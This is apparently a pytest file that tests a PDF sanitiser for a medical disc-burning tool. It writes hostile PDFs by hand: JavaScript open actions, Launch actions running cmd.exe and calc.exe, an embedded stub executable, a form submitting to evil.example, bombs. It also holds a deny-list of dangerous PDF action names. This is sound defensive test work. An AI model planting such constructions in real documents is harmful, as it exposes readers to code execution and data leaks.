"""Report PDFs made safe (issue 8, DESIGN.md section 4a): hostile PDFs in, clean PDFs out.

Every hostile PDF is written byte by byte here (no checked-in binaries), run as a whole job
through build_job, and what lands in REPORTS/ and in the Encapsulated PDF instance is checked
with tools that are not the code under test: qpdf's command line (`--check`, `--json`),
poppler's `pdfinfo`, `pdfdetach` and `pdftotext`. Reports that cannot be made safe hold the
job with a sentence naming the file.
"""

from __future__ import annotations

import io
import json
import re
import subprocess
import sys
import warnings
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import make_job_folder, output_of, quiet_read, require_tool, run_tool
from pydicom.uid import EncapsulatedPDFStorage

from burner.build import BuildOutcome, build_job
from burner.config import load_config
from burner.content.pdfsafe import make_safe

WORDS = b"Synthetic hostile report for the safety tests"
PE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44
      + b"\x80\x00\x00\x00\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
      + b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 7
      + b"PE\x00\x00" + bytes(range(256)) * 80)
PE_MARK = b"This program cannot be run"
# Names that must not be anywhere in a report on a disc (keys or values, as qpdf --json shows).
FORBIDDEN = {"/JavaScript", "/JS", "/Launch", "/OpenAction", "/AA", "/EmbeddedFile",
             "/EmbeddedFiles", "/FileAttachment", "/EF", "/XFA", "/SubmitForm", "/ImportData",
             "/GoToR", "/GoToE", "/Rendition", "/Sound", "/Movie", "/RichMedia", "/Screen"}


# --- PDFs written by hand ------------------------------------------------------------------


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(data), extra, data)


def write_pdf(objects: dict[int, bytes], root: int = 1) -> bytes:
    """A complete PDF of `objects` ({number: body}) with a classic xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets \
            else b"0000000000 00000 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref)
    return bytes(out)


def append_update(base: bytes, objects: dict[int, bytes], root: int = 1) -> bytes:
    """`base` with an incremental update (a new revision after its %%EOF) holding `objects`."""
    prev = int(re.findall(rb"startxref\s+(\d+)", base)[-1])
    out = bytearray(base)
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    xref = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number in sorted(objects):
        out += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
    size = max(max(objects) + 1, int(re.findall(rb"/Size (\d+)", base)[-1]))
    out += (b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
            % (size, root, prev, xref))
    return bytes(out)


def catalog(extra: bytes = b"") -> bytes:
    return b"<< /Type /Catalog /Pages 2 0 R " + extra + b" >>"


def report(catalog_extra: bytes = b"", page_extra: bytes = b"",
           objects: dict[int, bytes] | None = None) -> bytes:
    """A one-page report saying WORDS, with extras in its catalog, page and objects 6 on."""
    return write_pdf({
        1: catalog(catalog_extra),
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
           b"/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R " + page_extra + b" >>",
        4: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        5: stream(b"BT /F1 14 Tf 72 720 Td (" + WORDS + b") Tj ET"),
        **(objects or {}),
    })


JS = b"<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\); this.print\\(\\)) >>"
JS_NAMES = b"/OpenAction 6 0 R /Names << /JavaScript << /Names [(init) 6 0 R] >> >>"
LAUNCH = (b"<< /Type /Action /S /Launch /F (cmd.exe) /Win << /F (C:\\\\Windows\\\\System32\\\\"
          b"cmd.exe) /P (/c calc.exe) /O (open) >> /NewWindow true >>")
FILESPEC = b"<< /Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF << /F 7 0 R >> >>"
EMBEDDED = stream(PE, b"/Type /EmbeddedFile /Subtype /application#2Foctet-stream ")


def link(action: bytes, y: int = 700) -> bytes:
    return b"<< /Type /Annot /Subtype /Link /Rect [72 %d 300 %d] /Border [0 0 0] /A %s >>" % (
        y, y + 14, action)


HOSTILE: dict[str, tuple[str, bytes]] = {
    "javascript-open-action": ("reports/js.pdf", report(JS_NAMES, b"", {6: JS})),
    "launch-cmd": ("reports/launch.pdf", report(
        b"/OpenAction " + LAUNCH, b"/Annots [6 0 R]", {6: link(LAUNCH)})),
    "embedded-files": ("reports/attached.pdf", report(
        b"/Names << /EmbeddedFiles << /Names [(invoice.exe) 6 0 R] >> >> "
        b"/PageMode /UseAttachments /AF [6 0 R]", b"", {6: FILESPEC, 7: EMBEDDED})),
    "file-attachment-annotation": ("reports/annot.pdf", report(
        b"", b"/Annots [8 0 R]",
        {6: FILESPEC, 7: EMBEDDED,
         8: b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 90 620] /FS 6 0 R "
            b"/Contents (open me) /Name /PushPin >>"})),
    "page-additional-actions": ("reports/aa.pdf", report(
        b"/AA << /WC " + JS + b" >>",
        b"/AA << /O 6 0 R /C " + LAUNCH + b" >> /Annots [7 0 R]",
        {6: JS, 7: b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 714] /AA << /E "
                   + JS + b" >> >>"})),
    "other-actions-and-forms": ("reports/forms.pdf", report(
        b"/Outlines 9 0 R /AcroForm << /Fields [] /XFA 12 0 R /NeedsRendering true >>",
        b"/Annots [6 0 R 7 0 R 8 0 R 13 0 R]",
        {6: link(b"<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/collect) >> >>"),
         7: link(b"<< /S /ImportData /F (data.fdf) >>", 650),
         8: link(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>", 600),
         9: b"<< /Type /Outlines /First 10 0 R /Last 10 0 R /Count 1 >>",
         10: b"<< /Title (Findings) /Parent 9 0 R /Dest [3 0 R /Fit] /A 11 0 R >>",
         11: b"<< /S /GoTo /D [3 0 R /Fit] /Next " + JS + b" >>",
         12: stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>x</script>"
                    b"</xdp:xdp>"),
         13: b"<< /Type /Annot /Subtype /Screen /Rect [0 0 10 10] /A << /S /Rendition "
             b"/OP 0 /JS (app.alert\\(1\\)) >> >>"})),
    "pe-after-eof": ("reports/pe.pdf", report() + PE),
    "incremental-update-adds-javascript": ("reports/update.pdf", append_update(
        report(), {1: catalog(JS_NAMES), 6: JS})),
    "exe-named-pdf-with-javascript": ("reports/report.exe", report(JS_NAMES, b"", {6: JS})),
}
# Text only these inputs hold; none may be in a report on a disc.
MARKERS = (PE_MARK, b"app.alert", b"cmd.exe", b"calc.exe", b"invoice.exe", b"evil.example",
           b"xdp:xdp", b"data.fdf")


# --- building a job --------------------------------------------------------------------------


def build(tmp_path: Path, name: str, data: bytes, settings: str = "") -> BuildOutcome:
    job_dir = tmp_path / "R-SAFETY"
    make_job_folder(job_dir, slices=2)
    manifest = json.loads((job_dir / "job.json").read_text(encoding="utf-8"))
    (job_dir / name).parent.mkdir(parents=True, exist_ok=True)
    (job_dir / name).write_bytes(data)
    manifest["reports"] = [{"path": name}]
    manifest["media"] = {"type": "dvd", "copies": 1}
    (job_dir / "job.json").write_text(json.dumps(manifest), encoding="utf-8")
    config = tmp_path / "burner.toml"
    config.write_text(f'[station]\ndata_dir = "{tmp_path / "data"}"\n{settings}',
                      encoding="utf-8")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return build_job(load_config(config), job_dir, tmp_path / "out")


def disc_pdfs(outcome: BuildOutcome, tmp_path: Path) -> list[Path]:
    """REPORTS/REPORT1.PDF of the staged tree and the PDF of its Encapsulated PDF instance."""
    tree = Path(outcome.volumes[0]["tree"])
    on_disc = tree / "REPORTS" / "REPORT1.PDF"
    (instance,) = [ds for ds in (quiet_read(p) for p in sorted((tree / "DICOM").rglob("*"))
                                 if p.is_file()) if ds.SOPClassUID == EncapsulatedPDFStorage]
    document = bytes(instance.EncapsulatedDocument)[:int(instance.EncapsulatedDocumentLength)]
    encapsulated = tmp_path / "encapsulated.pdf"
    encapsulated.write_bytes(document)
    return [on_disc, encapsulated]


# --- independent checks ----------------------------------------------------------------------


def names_in(value: object) -> Iterator[str]:
    """Every dictionary key and name value in qpdf's JSON of a PDF."""
    if isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from names_in(item)
    elif isinstance(value, list):
        for item in value:
            yield from names_in(item)
    elif isinstance(value, str) and value.startswith("/"):
        yield value


def qpdf_objects(path: Path, *, warnings_ok: bool = False) -> dict:
    """Every object of `path` as qpdf's JSON shows it (qpdf exits 3 on warnings)."""
    proc = run_tool([require_tool("qpdf"), "--json=2", "--json-key=qpdf", str(path)])
    assert proc.returncode in ((0, 3) if warnings_ok else (0,)), output_of(proc)
    return json.loads(proc.stdout)["qpdf"][1]


def assert_clean(path: Path) -> None:
    """qpdf, pdfinfo, pdfdetach and pdftotext agree that `path` is a clean report."""
    data = path.read_bytes()
    assert data.startswith(b"%PDF-") and data.rstrip().endswith(b"%%EOF")
    assert data.count(b"%%EOF") == 1, "an incremental update or trailing data is left"
    for marker in MARKERS:
        assert marker not in data, marker
    check = run_tool([require_tool("qpdf"), "--check", str(path)])
    assert check.returncode == 0, output_of(check)
    assert "No syntax or stream encoding errors found" in check.stdout, output_of(check)
    left = FORBIDDEN & set(names_in(qpdf_objects(path)))
    assert not left, f"{path.name} still has {sorted(left)}"
    info = run_tool([require_tool("pdfinfo"), str(path)])
    assert info.returncode == 0, output_of(info)
    assert re.search(r"(?m)^JavaScript:\s+no$", info.stdout), info.stdout
    assert re.search(r"(?m)^Encrypted:\s+no$", info.stdout), info.stdout
    assert re.search(r"(?m)^Pages:\s+1$", info.stdout), info.stdout
    detach = run_tool([require_tool("pdfdetach"), "-list", str(path)])
    assert detach.returncode == 0 and detach.stdout.startswith("0 embedded files"), \
        output_of(detach)
    text = run_tool([require_tool("pdftotext"), str(path), "-"])
    assert WORDS.decode() in text.stdout, output_of(text)


def test_the_checks_see_what_the_hostile_inputs_hold(tmp_path: Path) -> None:
    """The independent checks find the hostile content in the inputs (so they can find it)."""
    found = {}
    for case, (_, data) in HOSTILE.items():
        path = tmp_path / f"{case}.pdf"
        path.write_bytes(data)
        names = set(names_in(qpdf_objects(path, warnings_ok=True)))
        info = run_tool([require_tool("pdfinfo"), str(path)]).stdout
        detach = run_tool([require_tool("pdfdetach"), "-list", str(path)]).stdout
        javascript = bool(re.search(r"(?m)^JavaScript:\s+yes$", info))
        found[case] = (FORBIDDEN & names, javascript, detach.split("\n")[0], PE_MARK in data)
    assert found["javascript-open-action"][:2] == ({"/JavaScript", "/JS", "/OpenAction"}, True)
    assert {"/Launch", "/OpenAction"} <= found["launch-cmd"][0]
    assert {"/EmbeddedFiles", "/EF", "/EmbeddedFile"} <= found["embedded-files"][0]
    assert found["embedded-files"][2] == "1 embedded files"
    assert "/FileAttachment" in found["file-attachment-annotation"][0]
    assert {"/AA", "/JavaScript"} <= found["page-additional-actions"][0]
    assert {"/SubmitForm", "/ImportData", "/GoToR", "/XFA", "/Rendition", "/Screen"} \
        <= found["other-actions-and-forms"][0]
    assert found["pe-after-eof"][3]
    assert found["incremental-update-adds-javascript"][:2] == (
        {"/JavaScript", "/JS", "/OpenAction"}, True)
    assert found["exe-named-pdf-with-javascript"][1]


@pytest.mark.parametrize("case", list(HOSTILE))
def test_hostile_report_goes_on_the_disc_clean(tmp_path: Path, case: str) -> None:
    name, data = HOSTILE[case]
    outcome = build(tmp_path, name, data)
    assert outcome.exit_code == 0 and not outcome.held, outcome.summary()
    for path in disc_pdfs(outcome, tmp_path):
        assert_clean(path)


def test_links_inside_the_report_and_web_links_stay(tmp_path: Path) -> None:
    """A jump to a page and an https link stay clickable; javascript: and file: links lose
    their action (the text on the page stays)."""
    data = report(b"", b"/Annots [6 0 R 7 0 R 8 0 R 9 0 R]", {
        6: link(b"<< /S /URI /URI (https://portal.example.org/results) >>"),
        7: link(b"<< /S /URI /URI (javascript:alert\\(1\\)) >>", 650),
        8: link(b"<< /S /URI /URI (file:///C:/Windows/System32/cmd.exe) >>", 600),
        9: b"<< /Type /Annot /Subtype /Link /Rect [72 550 300 564] /Dest [3 0 R /Fit] >>",
    })
    outcome = build(tmp_path, "reports/links.pdf", data)
    assert outcome.exit_code == 0, outcome.summary()
    for path in disc_pdfs(outcome, tmp_path):
        objects = qpdf_objects(path)
        text = json.dumps(objects)
        assert "u:https://portal.example.org/results" in text
        assert "javascript:" not in text and "file:" not in text and "cmd.exe" not in text
        links = [o["value"] for o in objects.values()
                 if isinstance(o.get("value"), dict) and o["value"].get("/Subtype") == "/Link"
                 and ("/A" in o["value"] or "/Dest" in o["value"])]
        assert len(links) == 2, links     # the others are left as areas that do nothing


# --- reports that cannot be made safe --------------------------------------------------------


def encrypted_pdf() -> bytes:
    import pikepdf  # a dependency of burner itself: missing is a failure, never a skip

    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(report(b"/OpenAction 6 0 R", b"", {6: JS}))) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(user="patient", owner="hospital", R=6))
    return out.getvalue()


@pytest.mark.parametrize(("case", "name", "words"), [
    ("password", "reports/locked.pdf", "is protected with a password"),
    ("garbage", "reports/garbage.pdf", "is damaged and cannot be made safe"),
    ("too-large", "reports/big.pdf", "is larger than 1 MB"),
])
def test_report_that_cannot_be_made_safe_holds_the_job(tmp_path: Path, case: str, name: str,
                                                        words: str) -> None:
    settings = ""
    if case == "password":
        data = encrypted_pdf()
    elif case == "garbage":
        data = b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF\n"
    else:
        settings = "[reports]\nmax_mb = 1\n"
        data = report(b"", b"", {6: stream(b"0" * (3 * 2**19))})     # 1.5 MB, valid
    outcome = build(tmp_path, name, data, settings)
    assert outcome.held and outcome.exit_code == 3, outcome.summary()
    assert not outcome.volumes
    (problem,) = outcome.problems
    assert problem.startswith(f"{name}: the report"), problem
    assert words in problem and problem.endswith("then retry"), problem
    assert "Traceback" not in problem and "\n" not in problem
    assert "TESTER" not in problem     # no patient name in a reason


def test_huge_declared_stream_length_is_rewritten_with_the_real_length(tmp_path: Path) -> None:
    """A stream declaring 10 GB (more than the file) is read to its endstream and rewritten
    with its real length; nothing about the declared size reaches the disc."""
    contents = b"BT /F1 14 Tf 72 720 Td (" + WORDS + b") Tj ET"
    data = report().replace(b"<< /Length %d >>" % len(contents), b"<< /Length 10000000000 >>")
    assert b"/Length 10000000000" in data
    outcome = build(tmp_path, "reports/declared.pdf", data)
    assert outcome.exit_code == 0, outcome.summary()
    for path in disc_pdfs(outcome, tmp_path):
        assert_clean(path)
        assert b"10000000000" not in path.read_bytes()


def test_report_cut_off_inside_an_update_is_refused(tmp_path: Path) -> None:
    """An update after %%EOF that does not end in %%EOF is a file copied only in part: refused,
    never shown as its older revision."""
    whole = append_update(report(), {1: catalog(b"/OpenAction 6 0 R"), 6: JS})
    cut = whole[:whole.rindex(b"xref")]
    outcome = build(tmp_path, "reports/cut.pdf", cut)
    assert outcome.rejected and outcome.exit_code == 2, outcome.summary()
    assert outcome.problems[0].startswith("reports/cut.pdf: the report PDF is incomplete")


def test_two_unsafe_reports_are_both_named(tmp_path: Path) -> None:
    job_dir = tmp_path / "R-TWO-BAD"
    make_job_folder(job_dir, slices=2)
    manifest = json.loads((job_dir / "job.json").read_text(encoding="utf-8"))
    (job_dir / "reports").mkdir()
    (job_dir / "reports" / "a.pdf").write_bytes(b"%PDF-1.4\n" + b"\x00" * 500 + b"%%EOF\n")
    (job_dir / "reports" / "b.pdf").write_bytes(encrypted_pdf())
    manifest["reports"] = [{"path": "reports/a.pdf"}, {"path": "reports/b.pdf"}]
    (job_dir / "job.json").write_text(json.dumps(manifest), encoding="utf-8")
    config = tmp_path / "burner.toml"
    config.write_text(f'[station]\ndata_dir = "{tmp_path / "data"}"\n', encoding="utf-8")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        outcome = build_job(load_config(config), job_dir, tmp_path / "out")
    assert outcome.held, outcome.summary()
    assert outcome.problems[0].startswith("2 reports cannot go on a disc as they are")
    assert any(p.startswith("reports/a.pdf: the report PDF is damaged") for p in outcome.problems)
    assert any(p.startswith("reports/b.pdf: the report PDF is protected with a password")
               for p in outcome.problems)


# --- bounded -----------------------------------------------------------------------------------


@pytest.mark.slow     # a bomb: bounded memory on a large input
def test_compressed_bomb_in_a_page_is_never_inflated() -> None:
    """A page whose content inflates to 1 GiB is rewritten with its stream still compressed."""
    packer = zlib.compressobj(9)
    chunk = b" " * 2**24
    bomb = b"".join(packer.compress(chunk) for _ in range(64)) + packer.flush()
    data = write_pdf({
        1: catalog(),
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        4: stream(bomb, b"/Filter /FlateDecode "),
    })
    out = make_safe(data)
    assert len(out) < len(data) + 4096
    assert bomb in out


@pytest.mark.slow     # a bomb: bounded memory on a large input
def test_object_stream_bomb_is_refused_within_the_memory_limit(tmp_path: Path) -> None:
    """The catalog inside an object stream that inflates to 1 GiB: qpdf must inflate it to
    parse, the child process runs out of its memory limit, and the report is refused as too
    complex instead of exhausting the station."""
    packer = zlib.compressobj(9)
    head = b"1 0 "
    body = catalog()
    bomb = packer.compress(head + body) + b"".join(
        packer.compress(b" " * 2**24) for _ in range(64)) + packer.flush()
    objects = {
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        4: stream(bomb, b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode " % len(head)),
    }
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body_ in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body_)
    rows = b"\x00\x00\x00\x00\x00\xff\xff"                        # 0: free
    rows += b"\x02\x00\x00\x00\x04\x00\x00"                       # 1: in object stream 4
    for number in (2, 3, 4):
        rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00"
    xref = len(out)
    rows += b"\x01" + xref.to_bytes(4, "big") + b"\x00\x00"       # 5: this xref stream
    out += b"5 0 obj\n%s\nendobj\n" % stream(
        rows, b"/Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R ")
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    path = tmp_path / "bomb.pdf"
    path.write_bytes(out)
    # In a process of its own, so the largest child's peak memory is the sanitiser's.
    probe = ("import resource, sys\n"
             "from burner.content.pdfsafe import NotSafe, make_safe\n"
             "try:\n"
             f"    make_safe(open({str(path)!r}, 'rb').read())\n"
             "    print('made safe')\n"
             "except NotSafe as exc:\n"
             "    print('refused', exc.code)\n"
             "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024)\n")
    proc = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True,
                          timeout=300, check=False)
    assert proc.returncode == 0, proc.stderr
    verdict, peak_mb = proc.stdout.splitlines()
    # qpdf reports the failed allocation as a damaged object stream, or it runs out of memory
    assert verdict in {"refused damaged", "refused complex"}, proc.stdout
    assert int(peak_mb) < 700, f"the sanitiser peaked at {peak_mb} MB"
